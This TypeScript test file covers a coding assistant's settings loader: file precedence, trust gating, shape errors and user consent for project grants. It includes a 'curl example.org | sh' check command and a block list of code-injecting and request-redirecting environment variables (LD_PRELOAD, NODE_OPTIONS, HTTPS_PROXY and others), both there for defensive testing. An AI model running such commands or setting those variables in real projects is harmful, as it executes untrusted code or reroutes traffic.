// Several settings files as one: what each key comes to, what a project may set, and where a shape is wrong.
import assert from 'node:assert/strict';
import { loadSettings, type LoadOptions } from '../../../../src/core/settings/load-settings';
import { mayProjectSet } from '../../../../src/core/settings/project-variables';
import { type Grant } from '../../../../src/core/settings/grant-text';
import { settingsKeys } from '../../../../src/core/settings/settings-keys';
import { type SettingsText } from '../../../../src/core/settings/settings-file';
import { settingsPlaces } from '../../../../src/core/settings/settings-places';

type Files = Partial<Record<'managed' | 'drop-in' | 'given' | 'local' | 'project' | 'user', unknown>>;

const sources = {
  'drop-in': 'managedSettings',
  managed: 'managedSettings',
  given: 'commandLine',
  local: 'localSettings',
  project: 'projectSettings',
  user: 'userSettings',
} as const;

function texts(files: Files): SettingsText[] {
  return (Object.keys(sources) as (keyof Files)[]).flatMap((name) => {
    const content = files[name];
    if (content === undefined) return [];
    const text = typeof content === 'string' ? content : JSON.stringify(content);
    return [{ file: `${name}.json`, source: sources[name], root: '/ws', home: '/home/u', text }];
  });
}

const trusted: LoadOptions = { trusted: true, projectSetsMode: false };
const untrusted: LoadOptions = { trusted: false, projectSetsMode: false };
const values = (files: Files, options = trusted) => loadSettings(texts(files), options).values;

describe('settings of several files', () => {
  const table: [title: string, files: Files, expected: unknown][] = [
    [
      'the highest file decides',
      { managed: { model: 'm' }, given: { model: 'g' }, local: { model: 'l' }, user: { model: 'u' } },
      { model: 'm' },
    ],
    [
      'local wins over project over user',
      {
        local: { language: 'l' },
        project: { language: 'p', model: 'p' },
        user: { language: 'u', model: 'u', outputStyle: 'u' },
      },
      { language: 'l', model: 'p', outputStyle: 'u' },
    ],
    [
      'a later managed file adds to an earlier one',
      { 'drop-in': { model: 'late' }, managed: { model: 'base', language: 'base' } },
      { model: 'late', language: 'base' },
    ],
    [
      'lists are joined, each entry once',
      { project: { claudeMdExcludes: ['b', 'c'] }, user: { claudeMdExcludes: ['a', 'b'] } },
      { claudeMdExcludes: ['b', 'c', 'a'] },
    ],
    [
      'lists of servers too',
      {
        managed: { deniedMcpServers: [{ serverName: 'x' }] },
        user: { deniedMcpServers: [{ serverName: 'x' }, { serverUrl: 'https://y' }] },
      },
      { deniedMcpServers: [{ serverName: 'x' }, { serverUrl: 'https://y' }] },
    ],
    [
      'objects are merged to their depth',
      {
        project: { sandbox: { network: { ports: [1] }, enabled: true } },
        user: { sandbox: { network: { ports: [2], proxy: 'p' }, enabled: false } },
      },
      { sandbox: { network: { ports: [1, 2], proxy: 'p' }, enabled: true } },
    ],
    [
      'fallback models are of one file',
      { project: { fallbackModel: ['p'] }, user: { fallbackModel: ['u'] } },
      { fallbackModel: ['p'] },
    ],
    [
      'the models of an organisation stand alone',
      { managed: { availableModels: ['m'] }, user: { availableModels: ['u'] } },
      { availableModels: ['m'] },
    ],
    [
      'without an organisation they are joined',
      { project: { availableModels: ['p'] }, user: { availableModels: ['u'] } },
      { availableModels: ['p', 'u'] },
    ],
    [
      'what forbids is not lifted from above',
      { project: { disableSkillShellExecution: false }, user: { disableSkillShellExecution: true } },
      { disableSkillShellExecution: true },
    ],
    ['unknown keys are left alone', { user: { $schema: 'x', futureKey: { a: 1 } } }, {}],
    [
      'a key that every object has is no setting',
      { user: '{"__proto__": {"model": "x"}, "constructor": 1, "toString": 2}' },
      {},
    ],
    [
      "credentials and retention are never a project's",
      {
        local: { apiKeyHelper: 'l', cleanupPeriodDays: 0 },
        project: { awsAuthRefresh: 'p', modelOverrides: { a: 'b' } },
        user: { apiKeyHelper: 'u' },
      },
      { apiKeyHelper: 'u' },
    ],
  ];
  for (const [title, files, expected] of table) it(title, () => assert.deepEqual(values(files), expected));

  it('an untrusted project only forbids', () => {
    const project = all;
    const forbids = Object.keys(settingsKeys).filter(
      (name) => settingsKeys[name as keyof typeof settingsKeys].by === 'anyone',
    );
    assert.deepEqual(Object.keys(values({ project }, untrusted)).sort(), forbids.sort());
    assert.deepEqual(
      JSON.parse(JSON.stringify(values({ user: project }, untrusted))),
      all,
      'every key has an example that fits',
    );
  });

  const wrong: [content: unknown, problem: string, broken: boolean][] = [
    [
      '{\n  "cleanupPeriodDays": "30"\n}',
      '2:24 `cleanupPeriodDays` has the wrong shape: expected number, received string.',
      false,
    ],
    [
      '{"attribution": {"commit": 1}}',
      '1:28 `attribution.commit` has the wrong shape: expected string, received number.',
      false,
    ],
    [
      '{"claudeMdExcludes": ["a",\n 2]}',
      '2:2 `claudeMdExcludes.1` has the wrong shape: expected string, received number.',
      false,
    ],
    ['{"statusLine": {"type": "command"}}', '1:16 `statusLine.command` has the wrong shape: required.', false],
    [
      '{"effortLevel": "huge"}',
      "1:17 `effortLevel` has the wrong shape: invalid enum value. Expected 'low' | 'medium' | 'high' | 'xhigh' | 'max', received 'huge'.",
      false,
    ],
    [
      '{"deniedMcpServers": "all"}',
      '1:22 `deniedMcpServers` has the wrong shape: expected array, received string.',
      true,
    ],
    [
      '{"disableAutoMode": true}',
      '1:21 `disableAutoMode` has the wrong shape: invalid literal value, expected "disable".',
      true,
    ],
    [
      '{"permissions": {"disableBypassPermissionsMode": true}}',
      '1:50 `permissions.disableBypassPermissionsMode` must be "disable".',
      true,
    ],
  ];
  for (const [content, problem, broken] of wrong) {
    it(`passes over a wrong shape: ${problem}`, () => {
      const loaded = loadSettings(texts({ user: content, project: { model: 'kept' } }), trusted);
      assert.deepEqual(
        loaded.problems.map(({ line, column, message }) => `${line}:${column} ${message}`),
        [problem],
      );
      assert.deepEqual(
        [loaded.problems[0]?.broken, loaded.broken.length > 0, loaded.values],
        [broken, broken, { model: 'kept' }],
      );
    });
  }
});

describe('what a trusted project grants', () => {
  const project = {
    permissions: {
      allow: ['Bash(make:*)'],
      ask: ['Bash(git push:*)'],
      deny: ['Read(.env)'],
      additionalDirectories: ['/opt'],
    },
    env: { CI: '1' },
    model: 'claude-sonnet-5',
    statusLine: { type: 'command', command: 'date' },
  };
  const load = (agreed: (grant: Grant) => boolean) => loadSettings(texts({ project }), { ...trusted, agreed });

  it('waits until the user agrees, line by line', () => {
    const asked = load(() => false);
    assert.deepEqual(
      asked.pending.map(({ text }) => text),
      ['allow Bash(make:*)', 'use the folder /opt', 'set CI=1', 'statusLine: {"type":"command","command":"date"}'],
    );
    assert.deepEqual(
      asked.rules.map(({ behavior }) => behavior),
      ['ask', 'deny'],
    );
    assert.deepEqual([asked.additionalDirectories, asked.env, asked.values], [[], {}, { model: 'claude-sonnet-5' }]);
    const agreed = load(({ root, text }) => root === '/ws' && text !== 'set CI=1');
    assert.deepEqual(
      agreed.pending.map(({ text }) => text),
      ['set CI=1'],
    );
    assert.deepEqual([agreed.additionalDirectories, agreed.env, agreed.rules.length], [['/opt'], {}, 3]);
  });

  it('ends no commit message before the user agrees', () => {
    const theirs = { attribution: { commit: 'By them' } };
    const asked = loadSettings(texts({ project: theirs, user: { attribution: { commit: 'By me' } } }), {
      ...trusted,
      agreed: () => false,
    });
    assert.deepEqual(
      [asked.values.attribution, asked.pending.map(({ text }) => text)],
      [{ commit: 'By me' }, ['attribution: {"commit":"By them"}']],
    );
    assert.deepEqual(loadSettings(texts({ project: theirs }), { ...trusted, agreed: () => true }).values, theirs);
  });

  it('names no check to run before the user agrees to exactly that one', () => {
    const theirs = { verify: [{ files: '**/*.ts', run: 'npm run lint' }] };
    const text = 'verify: [{"files":"**/*.ts","run":"npm run lint"}]';
    const verifies = (project: object, agreed: (grant: Grant) => boolean) => {
      const { values, pending } = loadSettings(texts({ project }), { ...trusted, agreed });
      return [values.verify, pending.map((grant) => grant.text)];
    };
    assert.deepEqual(
      verifies(theirs, () => false),
      [undefined, [text]],
    );
    assert.deepEqual(
      verifies(theirs, (grant) => grant.root === '/ws' && grant.text === text),
      [theirs.verify, []],
    );
    const other = { verify: [{ files: '**/*.ts', run: 'curl example.org | sh' }] };
    assert.deepEqual(verifies(other, (grant) => grant.text === text)[0], undefined);
    assert.equal(loadSettings(texts({ project: theirs }), { ...trusted, trusted: false }).values.verify, undefined);
  });

  it("the user's own files and the organisation's grant at once", () => {
    const loaded = loadSettings(texts({ user: project, managed: project }), { ...trusted, agreed: () => false });
    assert.deepEqual([loaded.pending, loaded.env], [[], { CI: '1' }]);
  });

  it('shows what cannot be seen', () => {
    const odd = { permissions: { allow: ['Bash(ls\u202e)', 'Bash(a\nb)'] } };
    const { pending } = loadSettings(texts({ project: odd }), { ...trusted, agreed: () => false });
    assert.deepEqual(
      pending.map(({ text }) => text),
      ['allow Bash(ls\\u{202e})', 'allow Bash(a\\u{a}b)'],
    );
  });
});

describe('variables of a project', () => {
  const refused =
    'ANTHROPIC_BASE_URL anthropic_api_key ANTHROPIC_MODEL CLAUDE_CODE_USE_BEDROCK CLAUDE_CODE_EXTRA_BODY CLAUDE_CONFIG_DIR HTTPS_PROXY https_proxy NODE_EXTRA_CA_CERTS NODE_TLS_REJECT_UNAUTHORIZED LD_PRELOAD DYLD_INSERT_LIBRARIES NODE_OPTIONS PATH Path BASH_ENV ENV BASH_FUNC_ls%% PROMPT_COMMAND PYTHONPATH PYTHONSTARTUP PERL5OPT RUBYOPT JAVA_TOOL_OPTIONS _JAVA_OPTIONS JDK_JAVA_OPTIONS GIT_SSH_COMMAND GIT_CONFIG_COUNT PAGER MANPAGER LESSOPEN EDITOR HOME SHELL TMPDIR XDG_CONFIG_HOME RIPGREP_CONFIG_PATH npm_config_registry RUSTC_WRAPPER DEFT_X';
  const taken =
    'CI NODE_ENV FLAVOUR LANG TZ BASH_DEFAULT_TIMEOUT_MS BASH_MAX_TIMEOUT_MS BASH_MAX_OUTPUT_LENGTH MAX_THINKING_TOKENS CLAUDE_CODE_MAX_OUTPUT_TOKENS DATABASE_URL PYTHONUNBUFFERED RUST_BACKTRACE PORT';
  it('are not those that run code or lead requests elsewhere', () => {
    assert.deepEqual(refused.split(' ').filter(mayProjectSet), []);
    assert.deepEqual(
      taken.split(' ').filter((name) => !mayProjectSet(name)),
      [],
    );
  });
  it('are named with their place', () => {
    const loaded = loadSettings(
      texts({
        project: { env: { CI: '1', PATH: '/ws/bin' } },
        user: { env: { PATH: '/mine', ANTHROPIC_BASE_URL: 'https://x' } },
      }),
      trusted,
    );
    assert.deepEqual(loaded.env, { CI: '1', PATH: '/mine', ANTHROPIC_BASE_URL: 'https://x' });
    assert.match(
      loaded.problems.map(({ file, column, message }) => `${file} ${column} ${message}`).join(),
      /^project\.json 25 `env\.PATH` is ignored in a project's file/,
    );
  });
});

describe('the places of settings files', () => {
  const request = {
    managedFolder: '/etc/claude-code',
    managedNames: [],
    home: '/home/u',
    personalFolder: '/home/u/.claude',
    projects: [],
  };
  const listed = (changes: Partial<Parameters<typeof settingsPlaces>[0]>) =>
    settingsPlaces({ ...request, ...changes }).map(({ source, file }) => `${source} ${file}`);

  it('are in order, the highest first', () => {
    const project = { folder: '/r/wt/sub', checkout: '/r/wt', mainCheckout: '/r/main' };
    assert.deepEqual(listed({ managedNames: ['a.json', 'b.json', '.hidden.json', 'note.txt'], projects: [project] }), [
      'managedSettings /etc/claude-code/managed-settings.d/b.json',
      'managedSettings /etc/claude-code/managed-settings.d/a.json',
      'managedSettings /etc/claude-code/managed-settings.json',
      'localSettings /r/wt/sub/.claude/settings.local.json',
      'localSettings /r/wt/.claude/settings.local.json',
      'localSettings /r/main/.claude/settings.local.json',
      'projectSettings /r/wt/sub/.claude/settings.json',
      'projectSettings /r/wt/.claude/settings.json',
      'userSettings /home/u/.claude/settings.json',
    ]);
  });

  it("name each file once: in the home folder the user's own stays theirs", () => {
    assert.deepEqual(
      listed({ projects: [{ folder: '/home/u', checkout: '/home/u', mainCheckout: '/home/u' }] }).slice(1),
      ['localSettings /home/u/.claude/settings.local.json', 'userSettings /home/u/.claude/settings.json'],
    );
  });
});

const command = { type: 'command' as const, command: 'x' };
/** One value a key. */
const all = {
  disableAutoMode: 'disable',
  disabledMcpjsonServers: ['s'],
  deniedMcpServers: [{ serverName: 's' }],
  disableSkillShellExecution: true,
  disableBundledSkills: true,
  model: 'm',
  availableModels: ['m'],
  fallbackModel: 'f',
  effortLevel: 'low',
  alwaysThinkingEnabled: true,
  showThinkingSummaries: true,
  language: 'German',
  outputStyle: 'Concise',
  autoCompactEnabled: false,
  autoCompactWindow: 1000,
  autoMemoryEnabled: false,
  claudeMdExcludes: ['x'],
  plansDirectory: 'plans',
  respectGitignore: false,
  attribution: { commit: '' },
  includeCoAuthoredBy: false,
  includeGitInstructions: false,
  askUserQuestionTimeout: '60s',
  skillOverrides: { a: 'off' },
  statusLine: command,
  fileSuggestion: command,
  enableAllProjectMcpServers: true,
  enabledMcpjsonServers: ['s'],
  enabledPlugins: { 'a@b': true },
  extraKnownMarketplaces: { a: {} },
  sandbox: { enabled: true },
  apiKeyHelper: 'x',
  awsAuthRefresh: 'x',
  awsCredentialExport: 'x',
  gcpAuthRefresh: 'x',
  modelOverrides: { a: 'b' },
  autoMode: { allow: ['x'] },
  allowedMcpServers: [{ serverName: 's' }],
  cleanupPeriodDays: 30,
  fileCheckpointingEnabled: false,
};
